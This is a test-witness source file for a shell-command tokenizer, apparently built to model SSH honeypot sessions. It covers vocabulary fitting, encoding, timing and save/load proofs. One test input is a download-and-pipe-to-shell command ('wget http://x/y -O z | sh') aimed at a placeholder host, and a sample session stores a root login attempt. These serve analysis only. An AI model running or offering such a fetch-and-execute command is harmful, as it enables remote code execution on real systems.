-- ===== src/Tokenizer/Witnesses.antt =====
-- The tokenizer with numbers for floats: tests, and the theorems at concrete inputs.
use mirage_core.Shared.{
  ℕ, ◌+◌, ◌-◌, ◌*◌, ◌/◌, ◌≤◌, ◌≡◌, refl, String, true, false, none, some, List, [], ◌∷◌, ◌++◌, map,
  ◌==◌, nat_eq, length, All, keep,
}
use mirage_core.Tokenizer.{
  Runtime, Mode, Session, TokenizerConfig, CommandTokenizer, EncodedSession, fit, encode_command,
  decode, special_tokens, install_specials,
}
use mirage_core.Tokenizer.Normalize.{head_command, strip_wrappers}
use mirage_core.Tokenizer.Normalize.Bare.{EndsIn, IsBare, strip_wrappers-IsBare}
use mirage_core.Tokenizer.Vocab.{IsVocab}
use mirage_core.Tokenizer.Fitted.{budget, fit-IsVocab, is_shown, recognized, decode-encode_command}
use mirage_core.Tokenizer.Encode.{encode, encode_batch}
use mirage_core.Tokenizer.Encode.Channels.{width, encode-length}
use mirage_core.Tokenizer.Encode.Batch.{HasWidth, encode_batch-HasWidth}
use mirage_core.Tokenizer.Storage.{save, load}
use mirage_core.Tokenizer.Storage.Roundtrip.{load-save}

head_command_runs :
    (head_command (λ s. s) "VAR=val sudo /bin/ls -la" ≡ "ls")
    × (head_command (λ s. s) "sudo -u root '/usr/bin/id'" ≡ "id")
    × (head_command (λ s. s) "wget http://x/y -O z | sh" ≡ "wget")
    × (head_command (λ s. s) " | sh" ≡ "")
    × (head_command (λ s. s) "   " ≡ "")
unfolding head_command
head_command_runs = (refl, refl, refl, refl, refl)

abbrev runtime : Runtime
runtime = record {
  Float = ℕ;
  of_nat = λ n. n;
  add = λ a b. a + b;
  sub = λ a b. a - b;
  mul = λ a b. a * b;
  div = λ a b. a / b;
  log1p = λ n. n;
  log = λ n. n;
  sqrt = λ n. n;
  is_e = λ n. n == 2;
  is_zero = λ n. n == 0;
  lower = λ s. s;
  normalize_full = λ s. s;
}

abbrev config : TokenizerConfig runtime
config = record {
  mode = Mode.command;
  top_k = 2;
  add_bos = true;
  add_eos = true;
  timing_log_base = 2;
  timing_mean = 0;
  timing_std = 1;
  use_metadata = true;
  metadata_top_k = 3;
  duration_mean = 0;
  duration_std = 1;
  version = 2;
}

abbrev session : Session
session = record {
  commands =
      record { raw = "uname -a"; ms_offset = 100 }
      ∷ record { raw = "sudo ls"; ms_offset = 140 }
      ∷ record { raw = "ls"; ms_offset = 150 }
      ∷ record { raw = "id"; ms_offset = 190 }
      ∷ [];
  duration_ms = none;
  ssh_client_banner = "SSH-2.0-Go";
  auth_attempts = record { username = "root"; credential = "1234" } ∷ [];
}

abbrev idle : Session
idle = record { commands = []; duration_ms = some 7; ssh_client_banner = ""; auth_attempts = [] }

abbrev fitted : CommandTokenizer runtime
fitted = fit runtime config (session ∷ idle ∷ [])

fitted_tokens :
    fitted.tables.id_to_token
    ≡ special_tokens ++ "ls" ∷ "uname" ∷ "banner:SSH-2.0-Go" ∷ "cred:root:1234" ∷ []
unfolding fit
fitted_tokens = refl

encoded_ids :
    (encode runtime fitted false none (some 10) session).input_ids
    ≡ 1 ∷ 4 ∷ 7 ∷ 8 ∷ 6 ∷ 5 ∷ 5 ∷ 3 ∷ 2 ∷ 0 ∷ []
unfolding encode fit encode_command
encoded_ids = refl

abbrev empty : CommandTokenizer runtime
empty = record { config = config; tables = install_specials }

encoded_timing :
    (encode runtime empty false none none session).timing
    ≡ 0 ∷ 190 ∷ 0 ∷ 0 ∷ 0 ∷ 40 ∷ 10 ∷ 40 ∷ 0 ∷ []
unfolding encode
encoded_timing = refl

strip_wrappers-IsBare_example :
    EndsIn
      ("sudo" ∷ "-u" ∷ "root" ∷ "ls" ∷ [])
      (strip_wrappers ("sudo" ∷ "-u" ∷ "root" ∷ "ls" ∷ []))
    × IsBare (strip_wrappers ("sudo" ∷ "-u" ∷ "root" ∷ "ls" ∷ []))
strip_wrappers-IsBare_example = strip_wrappers-IsBare ("sudo" ∷ "-u" ∷ "root" ∷ "ls" ∷ [])

fit-IsVocab_example :
    IsVocab fitted.tables
    × ((more : List String) × (fitted.tables.id_to_token ≡ special_tokens ++ more)
        × (length more ≤ budget runtime config (session ∷ idle ∷ [])))
fit-IsVocab_example = fit-IsVocab runtime config (session ∷ idle ∷ [])

decode-encode_command_example :
    decode fitted.tables true (map (encode_command runtime fitted) ("/bin/ls" ∷ "id" ∷ []))
    ≡ keep (is_shown true) (map (recognized runtime fitted) ("/bin/ls" ∷ "id" ∷ []))
decode-encode_command_example =
    decode-encode_command runtime config (session ∷ idle ∷ []) true ("/bin/ls" ∷ "id" ∷ [])

abbrev padded : EncodedSession runtime
padded = encode runtime fitted true (some 2) (some 9) session

encode-length_example :
    (length padded.input_ids ≡ width runtime fitted true (some 9) padded.length_of)
    × (length padded.timing ≡ width runtime fitted true (some 9) padded.length_of)
    × (length padded.attention_mask ≡ width runtime fitted true (some 9) padded.length_of)
encode-length_example = encode-length runtime fitted true (some 2) (some 9) session

abbrev unpadded : EncodedSession runtime
unpadded = encode runtime fitted true (some 2) none session

encode_batch-HasWidth_example :
    (w : ℕ) × (encode_batch runtime fitted false none (session ∷ idle ∷ [])
      ≡ map (encode runtime fitted false none (some w)) (session ∷ idle ∷ []))
    × All
        (HasWidth runtime fitted false w)
        (encode_batch runtime fitted false none (session ∷ idle ∷ []))
encode_batch-HasWidth_example =
    encode_batch-HasWidth runtime fitted false none (session ∷ idle ∷ [])

load-save_example :
    (restored : CommandTokenizer runtime) × (load runtime (save runtime fitted) ≡ some restored)
    × (restored.config ≡ fitted.config)
    × (restored.tables.id_to_token ≡ fitted.tables.id_to_token)
    × IsVocab restored.tables
load-save_example = load-save runtime fitted (fit-IsVocab runtime config (session ∷ idle ∷ [])).0
